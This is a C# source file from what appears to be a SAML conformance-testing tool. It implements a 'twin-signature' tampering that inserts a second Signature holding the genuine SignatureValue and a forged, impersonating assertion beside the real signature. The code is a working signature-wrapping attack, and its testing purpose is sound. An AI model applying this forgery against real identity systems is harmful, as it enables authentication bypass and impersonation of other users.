using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A second Signature inside the signed element, which only its SignatureValue makes part of what the digest leaves out.</summary>
internal sealed class TwinSignature(TamperingArguments arguments) : Tampering
{
    private const string Ds = SamlNamespaces.XmlSignature;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "twin-signature",
            "Puts a second Signature with the genuine SignatureValue, and a forged assertion in its Object, beside the genuine one.",
            "Whoever leaves every Signature with that value out of the digest finds the IdP's signature good; the forged values are not covered.",
            [
                new("of", "What the IdP signed: the Response, its assertion, or an error Response that takes the whole message's place.",
                    ["response", "assertion", "error-response"]),
                new("place", "Where the twin stands.", ["before", "after"]),
                Impersonation.Parameter,
            ]),
        arguments => new TwinSignature(arguments));

    public override string Name => "twin-signature";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var forged = Dom.Clone(SignedPlaces.Assertion(work));
        var signed = Signed(work);
        forged.SetAttribute("ID", work.Context.Ids.Next());
        if (Dom.Signature(forged) is { } inner)
        {
            forged.RemoveChild(inner);
        }

        Impersonation.Apply(forged, target, work);
        var signature = Dom.Signature(signed)!;
        var twin = work.Document.CreateElement(signature.Prefix, "Signature", Ds);
        Dom.SetNamespace(twin, signature.Prefix, Ds);
        Dom.Append(twin, signature.Prefix, "SignatureValue", Ds, XmlSigner.Descendant(signature, "SignatureValue").InnerText);
        Holders.Object(twin).AppendChild(forged);
        _ = arguments.Text("place") == "before" ? signed.InsertBefore(twin, signature) : signed.InsertAfter(twin, signature);
        work.Claim(new StandsWithoutTwins(signed.GetAttribute("ID")));
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private XmlElement Signed(Workpiece work)
    {
        var of = arguments.Required("of");
        if (of != "error-response")
        {
            return SignedPlaces.Signed(work, of)[0];
        }

        var error = (XmlElement)work.Document.ImportNode(ForeignDocuments.Make("error-response", work), true);
        work.Document.ReplaceChild(error, work.Root);
        return error;
    }
}
